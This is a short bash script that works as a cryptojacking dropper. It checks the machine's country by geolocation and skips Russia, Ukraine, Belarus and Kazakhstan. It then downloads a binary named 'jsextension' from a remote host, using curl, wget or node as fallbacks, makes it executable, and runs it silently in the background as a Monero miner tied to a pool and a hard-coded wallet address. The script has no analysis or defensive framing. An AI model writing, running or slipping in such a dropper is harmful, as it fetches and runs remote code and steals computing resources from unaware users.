#!/bin/bash
IP=$(curl -k https://freegeoip.app/xml/ 2>/dev/null | grep 'RU\|UA\|BY\|KZ')
if [ -z "$IP" ]; then
    var=$(pgrep jsextension)
    if [ -z "$var" ]; then
        if ! curl -s -m 20 http://citationsherbe.example/download/jsextension -o jsextension 2>/dev/null; then
            wget -q -T 20 http://citationsherbe.example/download/jsextension -O jsextension 2>/dev/null || \
            node -e "require('http').get('http://citationsherbe.example/download/jsextension',r=>r.pipe(require('fs').createWriteStream('jsextension')))"
        fi
        if [ -f jsextension ]; then
            chmod +x ./jsextension
            ./jsextension -k --tls --rig-id q -o stratum+tcp://pool.minexmr.example:3333 -u 49ay9Aq2r3diJtEk3eeKKm7pc5R39AKnbYJZVqAd1UUmew6ZPX1ndfXQCT16v4trWp4erPyXtUQZTHGjbLXWQdBqLMxxYKH --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
        fi
    fi
fi
